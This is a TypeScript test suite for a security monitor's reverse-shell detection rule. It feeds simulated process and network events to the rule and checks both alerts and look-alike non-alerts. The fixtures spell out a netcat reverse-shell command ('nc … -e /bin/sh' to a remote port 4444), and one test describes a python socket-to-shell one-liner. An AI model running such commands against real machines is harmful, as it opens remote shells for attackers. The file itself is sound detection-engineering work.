import { finding, marbleTest, testSignature, world } from '../../../marbles/index.js';
import { enrich } from '../../../src/operators/enrich.js';
import { reverseShell } from '../../../src/signatures/builtin/reverseShell.js';
import { runSignatures } from '../../../src/signatures/runSignatures.js';
import type { Envelope } from '../../../src/streams/types.js';

const S = 1_000_000_000n;
const REMOTE = { sa_family: 'AF_INET', sin_port: '4444', sin_addr: '203.0.113.7' };

/** nc connects out, then forks and runs /bin/sh (nc -e): the shape, and its variants. */
function ncThenShell(addr: Readonly<Record<string, string>>, shellAt = 3n, connectAt = 2n) {
  const w = world();
  const bash = w.process({ pid: 100, comm: 'bash', exe: '/usr/bin/bash' });
  const nc = w.fork(bash, { pid: 101, at: 1n * S });
  const ncExec = w.exec(nc.child, { path: '/usr/bin/nc.openbsd', argv: ['nc', '203.0.113.7', '4444', '-e', '/bin/sh'], at: 1n * S + 1000n });
  const sh = w.fork(nc.child, { pid: 102, at: shellAt * S });
  const shExec = w.exec(sh.child, { path: '/usr/bin/dash', cmdpath: '/bin/sh', argv: ['sh'], at: shellAt * S + 1000n });
  const connect = w.syscall(nc.child, 'connect', { args: { sockfd: 3, addr }, at: connectAt * S });
  const events = { a: nc.event, b: ncExec, c: connect, d: sh.event, e: shExec };
  // in time order
  const values = connectAt < shellAt ? events : { a: nc.event, b: ncExec, c: sh.event, d: shExec, e: connect };
  return { w, nc: nc.child, values };
}

describe('PRX-005 reverseShell', () => {
  it('hit: nc connects to a remote peer, then its child execs a shell', () => {
    const { w, nc, values } = ncThenShell(REMOTE);
    testSignature(reverseShell(), { marbles: 'abcde|', values }, {
      marbles: '----x|',
      values: {
        x: finding('PRX-005', {
          pid: 102,
          event: 'sched_process_exec',
          data: { shell: 'dash', depth: 1, peer: { address: '203.0.113.7', port: 4444, family: 'AF_INET', lastTime: w.epoch(2n * S) }, connector: { entityId: nc.entityId, pid: 101, name: 'nc.openbsd', exe: '/usr/bin/nc.openbsd' }, sinceConnectNs: 1n * S + 1000n },
        }),
      },
    });
  });

  it('hit: the connecting process itself execs the shell (python one-liner that dup2s and execs)', () => {
    const w = world();
    const bash = w.process({ pid: 100, comm: 'bash', exe: '/usr/bin/bash' });
    const py = w.fork(bash, { pid: 101, at: 1n * S });
    const pyExec = w.exec(py.child, { path: '/usr/bin/python3.11', argv: ['python3', '-c', '…'], at: 1n * S + 1000n });
    const connect = w.syscall(py.child, 'security_socket_connect', { args: { sockfd: 3, type: 1, remote_addr: REMOTE }, at: 2n * S });
    const sh = w.exec(py.child, { path: '/usr/bin/bash', argv: ['bash', '-i'], at: 3n * S });
    testSignature(reverseShell(), { marbles: 'abcd|', values: { a: py.event, b: pyExec, c: connect, d: sh } }, {
      marbles: '---x|',
      values: { x: finding('PRX-005', { pid: 101, data: { shell: 'bash', depth: 0, connector: { entityId: py.child.entityId, pid: 101, name: 'python3.11', exe: '/usr/bin/python3.11' } } }) },
    });
  });

  it('look-alike: the same lineage connects only to loopback (a local proxy) or to DNS', () => {
    const loop = ncThenShell({ sa_family: 'AF_INET', sin_port: '8080', sin_addr: '127.0.0.1' });
    testSignature(reverseShell(), { marbles: 'abcde|', values: loop.values }, '-----|');
    const dns = ncThenShell({ sa_family: 'AF_INET', sin_port: '53', sin_addr: '10.0.0.2' });
    testSignature(reverseShell(), { marbles: 'abcde|', values: dns.values }, '-----|');
    const unix = ncThenShell({ sa_family: 'AF_UNIX', sun_path: '/run/nscd/socket' });
    testSignature(reverseShell(), { marbles: 'abcde|', values: unix.values }, '-----|');
  });

  it('look-alike: the connection is long before the shell (outside the window), or after it', () => {
    const late = ncThenShell(REMOTE, 60n);
    testSignature(reverseShell(), { marbles: 'abcde|', values: late.values }, '-----|');
    const after = ncThenShell(REMOTE, 3n, 4n);
    testSignature(reverseShell(), { marbles: 'abcde|', values: after.values }, '-----|');
  });

  it('stays quiet without artifacts (enrich without a store)', () => {
    const { values } = ncThenShell(REMOTE);
    marbleTest(({ cold, expectFindings }) => {
      expectFindings(cold<Envelope>('abcde|', values).pipe(enrich(), runSignatures([reverseShell()]))).toBe('-----|');
    });
  });
});
